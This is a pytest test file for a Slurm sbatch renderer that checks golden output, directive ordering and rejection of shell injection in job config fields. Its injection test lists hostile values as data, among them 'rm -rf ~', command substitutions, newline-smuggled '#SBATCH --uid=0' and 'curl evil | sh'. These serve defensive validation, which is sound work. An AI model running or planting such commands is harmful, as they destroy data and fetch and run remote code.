"""sbatch rendering: pure, pinned by golden files, and nothing in a job file can inject a command."""

import os
from pathlib import Path

import pytest

from fastserve.jobs.sbatch import SlurmConfig, render, slurm_config
from fastserve.pipeline.errors import ConfigError

GOLDEN = Path(__file__).parent / "golden"
FULL = SlurmConfig(
    partition="gpu",
    account="ml",
    qos="normal",
    nodes=2,
    ntasks_per_node=4,
    gpus_per_node=4,
    cpus_per_task=8,
    mem="256G",
    time="04:00:00",
    job_name="nightly-reviews",
    output="logs/%x-%j.out",
    extra=("--constraint=a100", "--exclusive"),
    setup=("module load cuda/12.4", "source /opt/venvs/fastserve/bin/activate"),
)


@pytest.mark.parametrize("kind", ["infer", "train"])
def test_rendered_scripts_match_the_golden_files(kind):
    got = render(kind, FULL, "/home/ana/jobs/reviews.toml", fastserve="fastserve")
    path = GOLDEN / f"{kind}.sbatch"
    if os.environ.get("FASTSERVE_UPDATE_GOLDEN"):
        path.write_text(got)
    assert got == path.read_text(), (
        f"the rendered {kind} script changed; if that is intended, refresh the golden file with "
        "FASTSERVE_UPDATE_GOLDEN=1 pytest tests/test_submit.py and review the diff"
    )


def test_directives_are_sorted_and_one_node_differs_from_n_only_in_nodes():
    one = render("infer", SlurmConfig(nodes=1), "/j.toml").splitlines()
    many = render("infer", SlurmConfig(nodes=8), "/j.toml").splitlines()
    diff = [(a, b) for a, b in zip(one, many, strict=True) if a != b]
    assert diff == [("#SBATCH --nodes=1", "#SBATCH --nodes=8")]
    sbatch_lines = [x for x in one if x.startswith("#SBATCH")]
    assert sbatch_lines == sorted(sbatch_lines)
    assert "#SBATCH --signal=B:USR1@120" in one and "#SBATCH --requeue" in one


@pytest.mark.parametrize(
    "key,value",
    [
        ("job_name", "x; rm -rf ~"),
        ("job_name", "$(touch /tmp/pwned)"),
        ("job_name", "`id`"),
        ("job_name", "ok\n#SBATCH --uid=0"),
        ("output", "logs/$(touch /tmp/pwned).out"),
        ("output", "logs/`id`.out"),
        ("output", "a.out\nrm -rf ~"),
        ("partition", "gpu;id"),
        ("extra", ["--constraint=a100\necho pwned"]),
        ("extra", ["; id"]),
        ("setup", ["module load x\ncurl evil | sh"]),
        # sbatch splits an #SBATCH line at spaces: each word would be an option of its own
        ("output", "logs/my run.out --uid=0"),
        ("error", "e.out --wrap=id"),
        ("extra", ["--constraint=a100 --uid=0"]),
        ("signal_grace_s", -5),
        ("signal_grace_s", 99999),
    ],
)
def test_injection_attempts_are_refused(key, value):
    with pytest.raises(ConfigError, match=f"slurm.{key}"):
        slurm_config({key: value}, "job.toml")


def test_paths_in_the_command_are_quoted():
    script = render("infer", SlurmConfig(), "/data/a b;c/$(touch pwned)/`id`/job.toml")
    line = next(x for x in script.splitlines() if x.startswith("srun"))
    assert "'/data/a b;c/$(touch pwned)/`id`/job.toml'" in line


def test_misspelled_key_lists_the_valid_ones():
    with pytest.raises(ConfigError) as e:
        slurm_config({"partiton": "gpu"}, "job.toml")
    assert "unknown key 'slurm.partiton'" in str(e.value) and "slurm.partition" in str(e.value)


TRAIN = '[model]\nn_layer = 2\n[data]\npaths = ["c"]\n[parallel]\npp = 2\ndp = 2\n[output]\npath = "r"\n'


def test_a_train_job_gets_one_task_per_rank_of_its_layout(tmp_path):
    from fastserve.jobs.submit import prepare

    job = tmp_path / "train.toml"
    job.write_text(TRAIN)  # no [slurm] table at all
    assert "#SBATCH --ntasks-per-node=4" in prepare("train", str(job)).splitlines()
    job.write_text(TRAIN + "[slurm]\nnodes = 2\n")
    assert "#SBATCH --ntasks-per-node=2" in prepare("train", str(job)).splitlines()
    job.write_text(TRAIN + "[slurm]\nnodes = 3\n")
    with pytest.raises(ConfigError, match="do not spread evenly over slurm.nodes = 3"):
        prepare("train", str(job))
    job.write_text(TRAIN + "[slurm]\nntasks_per_node = 3\n")
    with pytest.raises(ConfigError, match="3 tasks, but parallel dp x tp x pp = 4 ranks"):
        prepare("train", str(job))
